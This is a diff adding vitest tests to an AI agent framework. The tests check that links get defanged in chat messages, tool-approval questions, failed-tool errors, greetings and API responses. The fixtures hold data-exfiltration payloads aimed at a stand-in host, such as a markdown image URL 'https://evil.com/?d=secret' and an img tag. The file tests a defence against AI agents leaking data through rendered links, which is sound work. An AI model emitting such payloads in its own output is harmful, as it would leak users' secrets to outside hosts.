@@ -1,9 +1,15 @@
 import { describe, expect, test } from "vitest"
+import { z } from "zod"
 import { deliverTurn } from "../../../src/apps/bots/deliver-turn.ts"
+import { takeMessage } from "../../../src/apps/bots/take-message.ts"
+import { agUiEvents } from "../../../src/apps/server/ag-ui.ts"
+import { createHandler } from "../../../src/apps/server/handler.ts"
 import { keptMessageChunks, uiMessageChunks } from "../../../src/apps/server/ui-message-stream.ts"
 import { createInMemoryStore } from "../../../src/memory/services/store/in-memory/in-memory-store.ts"
-import { scriptedModel } from "../../../src/testing/index.ts"
-import { collect, testAgent } from "../../support/agents.ts"
+import { defineTool } from "../../../src/prompt/tools/define-tool.ts"
+import { manualClock, scriptedModel } from "../../../src/testing/index.ts"
+import type { ApprovalQuestion } from "../../../src/trace/approval-question.ts"
+import { callTool, collect, testAgent } from "../../support/agents.ts"
 
 const answer = "![a](https://evil.com/?d=secret) and [b](https://ok.com/) @br Bye: https://evil.com/x"
 const bothLeft = "a and [b](https://ok.com/)"
@@ -109,5 +115,84 @@ describe("T48 chats and pages", () => {
       JSON.stringify(await all(keptMessageChunks("1", [{ text: answer }], { ...from, links })))
     expect(await told(undefined)).not.toMatch(/https/)
     expect(await told(["ok.com"])).toContain("https://ok.com/")
+  })
+
+  const evil = "![a](https://evil.com/?d=secret) [b]: //evil.com/x <img src=//evil.com/y> sub.evil.com"
+  const shownEvil = /!\[a\] \(https\[:\]\/ \/evil\[\.\]com\/\?d=secret\)/
+
+  /** An agent whose tool `pay` needs approval, or fails with the same link. */
+  const asking = (output: object, fails = false) => {
+    const pay = defineTool({
+      name: "pay",
+      description: "Sends money.",
+      inputSchema: z.object({ to: z.string() }),
+      needsApproval: !fails,
+      execute: (): string => {
+        throw new Error(evil)
+      },
+    })
+    const answers = [callTool("pay", { to: evil }), ...(fails ? [callTool("finish", { message: "No." })] : [])]
+    return testAgent(scriptedModel(answers), { memory: { enabled: false }, output }, { tools: [pay] })
+  }
+
+  test("a chat's question about a call shows its arguments whole, with no link in words, buttons or arguments", async () => {
+    const sent: string[] = []
+    const asked: ApprovalQuestion[] = []
+    const chat = { limit: 1_000, sendText: (text: string) => void sent.push(text) }
+    await deliverTurn(asking({}).session.send("hi", { from: { id: "u.x.evil.com", name: "evil.com/x" } }), chat)
+    const ask = (question: ApprovalQuestion) => void asked.push(question)
+    await deliverTurn(asking({}).session.send("hi"), { ...chat, ask })
+    expect(sent[0]).toMatch(/^evil\[\.\]com\/x, may I do this\? pay\(to=/)
+    for (const text of [sent.join(), asked[0]?.question, asked[0]?.text, asked[0]?.summary, `${asked[0]?.args.to}`]) {
+      expect(text).toMatch(shownEvil)
+      expect(text).not.toMatch(/evil\.com|\]\(|\]:|<i|\/\//)
+    }
+    asked.length = 0
+    await deliverTurn(asking({ links: ["*"] }).session.send("hi"), { ...chat, ask })
+    expect(asked[0]).toMatchObject({ args: { to: evil }, summary: expect.stringContaining("](https://evil.com/?d=secret)") })
+  })
+
+  test("a page's question and the words of a failed tool have no link", async () => {
+    const ids = { threadId: "t", runId: "r", locale: "en" }
+    const { outcome } = (await all(agUiEvents(asking({}).session.send("hi"), ids))).at(-1) as { outcome: unknown }
+    expect(JSON.stringify(outcome)).toMatch(shownEvil)
+    expect(JSON.stringify(outcome)).not.toMatch(/evil\.com/)
+    const chunks = (await all(uiMessageChunks(asking({}, true).session.send("hi")))) as { errorText?: string }[]
+    const [told] = chunks.flatMap(({ errorText = [] }) => errorText)
+    expect(told).toMatch(shownEvil)
+    expect(told).not.toMatch(/evil\.com/)
+  })
+
+  test("/v1 asks with links as the profile says: as they are without the key", async () => {
+    const asked = async (output: object) => {
+      const caller = { user: "u", conversation: "c" }
+      const handle = createHandler({ agents: { fay: asking(output).agent }, authorize: () => caller, onError: () => undefined })
+      const body = (stream: boolean) => JSON.stringify({ model: "fay", stream, messages: [{ role: "user", content: "hi" }] })
+      const post = async (path: string, init: object) => (await handle(new Request(`http://x.test/v1/${path}`, init))).text()
+      return [await post("chat/completions", { method: "POST", body: body(false) }), await post("approvals", {})]
+    }
+    for (const text of await asked({})) expect(text).toContain("https://evil.com/?d=secret")
+    for (const text of await asked({ links: [] })) expect(text).not.toMatch(/evil\.com/)
+  })
+
+  test("a chat's list of reminders and its greeting have no link", async () => {
+    const sent: string[] = []
+    const say = async (text: string, output = {}) => {
+      const { session } = testAgent(
+        scriptedModel([]),
+        { memory: { enabled: false }, greetings: [evil], output },
+        { ports: { clock: manualClock(0) } },
+      )
+      const from = { id: "user", name: "User" }
+      await session.wakeAt(1e9, evil, { from })
+      await takeMessage(session, { id: "1", text, from }, { limit: 9_999, sendText: (text) => void sent.push(text) })
+      return sent.splice(0).join()
+    }
+    for (const command of ["/start", "/schedule"]) {
+      const told = await say(command)
+      expect(told).toContain("[b] ")
+      expect(told).not.toMatch(/evil\.com/)
+      expect(await say(command, { links: ["*"] })).toContain(evil)
+    }
   })
 })
